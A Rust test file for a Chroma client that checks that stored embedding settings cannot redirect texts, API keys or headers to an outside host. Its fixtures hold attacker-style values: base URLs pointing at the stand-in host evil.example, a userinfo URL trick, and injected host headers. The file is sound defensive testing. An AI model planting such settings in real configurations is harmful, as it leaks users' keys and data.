//! Anyone who may change a collection chooses the settings of its embedding function. These tests show that the
//! settings choose neither the host that gets texts and keys, nor a header. A stand-in is the proxy of the
//! child processes, so it sees each request to a host other than this machine.

use std::fmt::Display;

use chroma_blocking::embed::{Baseten, HttpFunction, OpenAi, TextEmbeddingsInference};
use chroma_blocking::{Client, ClientBuilder, Collection, EmbeddingFunction};
use serde_json::{Value, json};

use crate::answers::answer;
use crate::support;
use crate::support::stand_in::{Answer, Request, StandIn};

const SECRET: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
const VARIABLES: [&str; 5] = [
    "OPENAI_API_KEY",
    "HUGGINGFACE_API_KEY",
    "CLOUDFLARE_API_KEY",
    "BASETEN_API_KEY",
    "MORPH_API_KEY",
];

/// Settings that would send texts to a host of their choice: the name of the function, its settings, and the
/// host.
fn elsewhere() -> Vec<(&'static str, Value, &'static str)> {
    let host = "evil.example";
    let openai = |more: Value| {
        let mut config = json!({ "model_name": "m", "api_key_env_var": "OPENAI_API_KEY" });
        let members = more.as_object().unwrap().clone();
        config.as_object_mut().unwrap().extend(members);
        config
    };
    let azure = json!({ "api_type": "azure", "api_base": "https://evil.example", "deployment_id": "d",
        "api_version": "1" });
    let account = json!({ "model_name": "m", "account_id": "a", "gateway_id": "g" });
    vec![
        (
            "openai",
            openai(json!({ "api_base": "http://evil.example/v1" })),
            host,
        ),
        (
            "openai",
            openai(json!({ "api_base": "https://api.openai.com@evil.example/v1" })),
            host,
        ),
        ("openai", openai(azure), host),
        (
            "morph",
            json!({ "api_base": "http://evil.example/v1" }),
            host,
        ),
        (
            "baseten",
            json!({ "api_base": "http://evil.example/v1" }),
            host,
        ),
        (
            "ollama",
            json!({ "url": "http://evil.example", "model_name": "m" }),
            host,
        ),
        (
            "huggingface_server",
            json!({ "url": "http://evil.example/embed" }),
            host,
        ),
        (
            "cloudflare_workers_ai",
            account,
            "gateway.ai.cloudflare.com",
        ),
    ]
}

/// Starts a server with a collection for each function of [`elsewhere`], named `notes-` and its position, and one
/// for `openai` with these settings.
fn chroma(openai: Value) -> StandIn {
    StandIn::start(move |request| {
        let last = request.path.rsplit(['/', '?']).next().unwrap_or_default();
        match last {
            "pre-flight-checks" => return Answer::ok(support::LIMITS),
            "query" => return Answer::ok(r#"{"ids":[[]],"distances":[[]]}"#),
            _ => {}
        }
        let (name, config) = match last.trim_start_matches("notes-").parse::<usize>() {
            Ok(index) => {
                let (name, config, _) = elsewhere().swap_remove(index);
                (name, config)
            }
            Err(_) => ("openai", openai.clone()),
        };
        let function = json!({ "type": "known", "name": name, "config": config });
        let stored = json!({ "id": "6f4c0b6e-9f3c-4d43-8d0e-0c1f4b0f6a11", "name": last, "tenant": "t",
            "database": "d", "configuration_json": { "embedding_function": function } });
        Answer::ok(stored.to_string())
    })
}

/// Runs a test in a child process, with keys in the environment and a proxy for all hosts.
fn child(test: &str, chroma: &StandIn, proxy: &StandIn) {
    let mut command = support::child(test);
    command
        .env("CHROMA_HOST", chroma.url())
        .env("HTTP_PROXY", proxy.url())
        .env("HTTPS_PROXY", proxy.url())
        .env_remove("NO_PROXY")
        .env_remove("no_proxy");
    for variable in VARIABLES {
        command.env(variable, SECRET);
    }
    let output = command.output().unwrap();
    let words = String::from_utf8_lossy(&output.stdout);
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(words.contains("1 passed"), "{words}{errors}");
    assert!(!words.contains(SECRET), "{words}");
}

fn client(allowed: Option<&str>) -> Client {
    let builder = ClientBuilder::from_env().unwrap();
    let builder = match allowed {
        Some(host) => builder.allow_embedding_host(host),
        None => builder,
    };
    builder.build().unwrap()
}

fn opened(client: &Client, name: impl Display) -> Collection {
    client.collection(format!("notes-{name}")).get().unwrap()
}

#[test]
fn secure_01_a_stored_setting_chooses_no_host_unless_the_program_allows_it() {
    let (chroma, proxy) = (chroma(json!({})), StandIn::start(answer));
    child("untrusted::child_that_allows_another_host", &chroma, &proxy);
    assert_eq!(proxy.requests().len(), 0, "nothing was sent");
    child("untrusted::child_that_allows_the_host", &chroma, &proxy);
    let sent = proxy.requests();
    assert!(!sent.is_empty());
    for request in sent {
        // A tunnel ends here; a text was sent without encryption, so without the key.
        let is_tunnel = request.method == "CONNECT";
        assert!(
            is_tunnel || request.path.starts_with("http://evil.example/"),
            "{request:?}"
        );
        assert!(!format!("{request:?}").contains(SECRET), "{request:?}");
        assert!(!String::from_utf8_lossy(&request.body).contains(SECRET));
    }
}

#[test]
#[ignore = "started by secure_01_a_stored_setting_chooses_no_host_unless_the_program_allows_it"]
fn child_that_allows_another_host() {
    for (index, (name, _, host)) in elsewhere().into_iter().enumerate() {
        let notes = opened(&client(Some("good.example")), index);
        notes.query([0.5; 3]).run().unwrap();
        let error = notes.query("text").run().unwrap_err().to_string();
        assert!(error.contains(name), "{error}");
        let is_address = error.contains("not an address") || error.contains("user");
        let is_host = error.contains(&format!(".allow_embedding_host({host:?})"));
        assert!(is_host || is_address, "{error}");
        let function = notes.embedding_function().unwrap();
        assert!(function.embed_documents(&["text"]).is_err());
        assert!(function.embed_queries(&["text"]).is_err());
    }
}

#[test]
#[ignore = "started by secure_01_a_stored_setting_chooses_no_host_unless_the_program_allows_it"]
fn child_that_allows_the_host() {
    for name in ["ollama", "huggingface_server", "openai"] {
        let index = elsewhere().iter().position(|(stored, ..)| *stored == name);
        let notes = opened(&client(Some("evil.example")), index.unwrap());
        notes.query("text").run().unwrap();
    }
}

#[test]
fn secure_01_a_stored_header_is_not_sent() {
    let headers =
        json!({ "host": "evil.example", "x-portkey-custom-host": "https://evil.example" });
    let config = json!({ "model_name": "m", "default_headers": headers });
    let (chroma, proxy) = (chroma(config), StandIn::start(answer));
    child("untrusted::child_with_stored_headers", &chroma, &proxy);
    assert_eq!(proxy.requests().len(), 0, "nothing was sent");
}

#[test]
#[ignore = "started by secure_01_a_stored_header_is_not_sent"]
fn child_with_stored_headers() {
    let notes = opened(&client(Some("evil.example")), "with-headers");
    let error = notes.query("text").run().unwrap_err().to_string();
    assert!(error.contains("default_headers"), "{error}");
    assert!(error.contains("HttpFunction::from_config"), "{error}");
}

/// Another user of this machine may listen there.
#[test]
fn secure_01_a_stored_address_on_this_machine_gets_a_key_only_if_the_program_allows_it() {
    let models = StandIn::start(|request| match request.header("authorization") {
        Some(_) => answer(request),
        None => Answer::new(401, r#"{"error":{"message":"no key"}}"#),
    });
    let address = format!("{}/v1", models.url());
    let config =
        json!({ "model_name": "m", "api_base": address, "api_key_env_var": "OPENAI_API_KEY" });
    let (chroma, proxy) = (chroma(config), StandIn::start(answer));
    let key = |request: &Request| request.header("authorization").map(str::to_owned);
    child("untrusted::child_with_a_stored_address", &chroma, &proxy);
    let keys: Vec<_> = models.requests().iter().map(key).collect();
    assert_eq!(keys, [None, Some(format!("Bearer {SECRET}"))]);
}

#[test]
#[ignore = "started by secure_01_a_stored_address_on_this_machine_gets_a_key_only_if_the_program_allows_it"]
fn child_with_a_stored_address() {
    let query = |allowed| {
        let notes = opened(&client(allowed), "on-this-machine");
        notes.query("text").run().map(drop)
    };
    let error = format!("{:#}", query(None).unwrap_err());
    assert!(
        error.contains("this address gets no key, since the collection chose it"),
        "{error}"
    );
    assert!(
        error.contains(".allow_embedding_host(\"127.0.0.1\")"),
        "{error}"
    );
    query(Some("127.0.0.1")).unwrap();
}

#[test]
fn secure_05_a_key_of_a_provider_is_sent_over_https_or_to_this_machine_only() {
    let server = "http://other-machine:8080/v1";
    let tei = TextEmbeddingsInference::new("http://other-machine:8080/embed");
    for builder in [
        HttpFunction::builder(OpenAi::new("m").base_url(server)),
        HttpFunction::builder(OpenAi::new("m")).base_url(server),
        HttpFunction::builder(Baseten::new(server)),
        HttpFunction::builder(tei),
    ] {
        let error = builder.api_key(SECRET).build().unwrap_err().to_string();
        assert!(error.contains("without encryption; use https"), "{error}");
        assert!(!error.contains(SECRET), "{error}");
    }
    let local = OpenAi::new("m").base_url("http://127.0.0.1:8080/v1");
    assert!(HttpFunction::builder(local).api_key(SECRET).build().is_ok());
}
